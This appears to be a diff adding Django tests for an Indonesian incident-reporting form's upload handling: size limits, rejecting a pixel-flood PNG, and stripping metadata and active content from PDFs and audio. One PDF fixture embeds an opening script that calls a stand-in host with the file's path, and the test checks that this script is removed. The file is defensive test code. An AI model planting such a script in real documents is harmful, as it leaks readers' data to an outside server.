@@ -191,3 +191,145 @@ class LanguageCookieTests:
         shown = "from django.conf import settings as s; print(s.LANGUAGE_COOKIE_SECURE, s.LANGUAGE_COOKIE_SAMESITE)"
         result = manage(production_env(tmp_path), "shell", "--verbosity", "0", "-c", shown)
         assert result.stdout.split() == ["True", "Lax"], result.stderr
+
+
+class LargeUploadTests:
+    """Item 9: an oversized upload is counted as it arrives and dropped; nothing of it is written to disk, the
+    report is kept, and the receipt says which file was not taken."""
+
+    def no_temporary_files(self, monkeypatch):
+        import django.core.files.uploadedfile as uploadedfile
+
+        def refuse(*args, **kwargs):
+            raise AssertionError("an upload was spooled to a temporary file in clear")
+
+        monkeypatch.setattr(uploadedfile.tempfile, "NamedTemporaryFile", refuse)
+
+    def post(self, files):
+        from django.test import Client
+
+        from perisai.reports.tests.helpers import form_data
+
+        reporter = Client()
+        reporter.get("/lapor/")
+        return reporter.post("/lapor/", {**form_data(), "attachments": files})
+
+    def test_a_file_over_the_limit_never_touches_the_disk(self, monkeypatch, settings):
+        from django.core.files.uploadedfile import SimpleUploadedFile
+
+        from perisai.reports.models import Report
+
+        self.no_temporary_files(monkeypatch)
+        big = SimpleUploadedFile("foto.jpg", b"\xff\xd8\xff\xe0" + b"\0" * (12 * 1024 * 1024), "image/jpeg")
+        response = self.post([big])
+        assert response.status_code == 201 and Report.objects.count() == 1
+        assert "Berkas foto.jpg terlalu besar (maksimal 10 MB)." in response.content.decode()
+
+    def test_a_request_longer_than_the_form_can_carry_keeps_its_text_but_no_file(self, monkeypatch, settings):
+        from django.core.files.uploadedfile import SimpleUploadedFile
+
+        from perisai.core.models import Attachment
+        from perisai.reports.models import Report
+
+        settings.PERISAI_ATTACHMENT_MAX_FILES, settings.PERISAI_ATTACHMENT_MAX_MB = 2, 1  # 3 MB with the text
+        self.no_temporary_files(monkeypatch)
+        small = SimpleUploadedFile("kecil.pdf", b"%PDF-1.4\n" + b"0" * 500_000, "application/pdf")
+        large = SimpleUploadedFile("besar.pdf", b"%PDF-1.4\n" + b"0" * 3_000_000, "application/pdf")
+        response = self.post([small, large])
+        body = response.content.decode()
+        assert response.status_code == 201 and Report.objects.count() == 1
+        assert "Berkas kecil.pdf tidak diterima: lampiran seluruhnya lebih dari 3 MB." in body
+        assert Attachment.objects.count() == 0
+
+
+class CostlyImageTests:
+    """Item 1: what decoding may cost is decided from the header, before a pixel is decoded."""
+
+    def png(self, size) -> bytes:
+        import io
+
+        from PIL import Image
+
+        out = io.BytesIO()
+        Image.new("RGBA", size, (120, 30, 200, 255)).save(out, "PNG")
+        return out.getvalue()
+
+    def test_the_attack_png_is_refused_without_decoding(self, monkeypatch):
+        from PIL import Image
+
+        from perisai.core import attachments
+
+        data = self.png((6000, 6600))  # 40 megapixels in about 160 KB
+        monkeypatch.setattr(Image.Image, "load", lambda self: pytest.fail("the image was decoded"))
+        with pytest.raises(attachments.AttachmentRejected, match="Foto terlalu besar"):
+            attachments.check_upload("layar.png", len(data), [data])
+
+    def test_a_large_phone_photo_is_kept_and_scaled_to_the_stored_size(self):
+        import io
+
+        from PIL import Image
+
+        from perisai.core import attachments
+
+        out = io.BytesIO()
+        Image.new("RGB", (8000, 6000), "orange").save(out, "JPEG")  # a 48-megapixel mode
+        checked = attachments.check_upload("foto.jpg", out.tell(), [out.getvalue()])
+        assert Image.open(io.BytesIO(checked.data)).size == (4000, 3000)  # decoded at half scale, not re-sampled
+
+
+class HiddenContentTests:
+    """Item 2: audio and PDF lose their metadata and active content before they are stored or forwarded."""
+
+    def test_a_pdf_loses_its_author_and_its_opening_script(self):
+        import io
+
+        import pikepdf
+
+        from perisai.core import attachments
+        from perisai.core.tests.uploads import real_pdf
+
+        data = real_pdf(author="Budi Santoso", script="app.launchURL('http://x.example/'+this.path)")
+        checked = attachments.check_upload("surat.pdf", len(data), [data])
+        assert checked.metadata_removed
+        for needle in (b"Budi", b"launchURL", b"/OpenAction", b"/JavaScript", b"/Metadata"):
+            assert needle not in checked.data, needle
+        with pikepdf.open(io.BytesIO(checked.data)) as cleaned:
+            assert len(cleaned.pages) == 1 and "/Author" not in cleaned.docinfo
+
+    def test_a_voice_note_loses_where_it_was_recorded_and_still_plays(self):
+        import io
+
+        import mutagen
+
+        from perisai.core import attachments
+        from perisai.core.tests.uploads import m4a
+
+        data = m4a(location="+06.0344+106.0534/")
+        checked = attachments.check_upload("rekaman.m4a", len(data), [data])
+        assert b"106.0534" not in checked.data and b"\xa9xyz" not in checked.data
+        assert mutagen.File(io.BytesIO(checked.data)).info.length == 1.0
+
+    def test_an_mp3_loses_its_tags(self):
+        from perisai.core import attachments
+        from perisai.core.tests.uploads import mp3
+
+        data = mp3(artist="Budi Santoso")
+        checked = attachments.check_upload("rekaman.mp3", len(data), [data])
+        assert b"Budi" not in checked.data and not checked.data.startswith(b"ID3")
+
+    def test_a_locked_pdf_is_refused_with_a_reason(self):
+        import io
+
+        import pikepdf
+
+        from perisai.core import attachments
+
+        document = pikepdf.new()
+        document.add_blank_page()
+        out = io.BytesIO()
+        document.save(out, encryption=pikepdf.Encryption(owner="x", user="rahasia"))
+        with pytest.raises(attachments.AttachmentRejected, match="dikunci dengan sandi"):
+            attachments.check_upload("surat.pdf", out.tell(), [out.getvalue()])
+
+    def test_the_form_says_what_is_removed(self, client):
+        assert "rekaman suara, dan PDF dihapus otomatis" in client.get("/lapor/").content.decode()
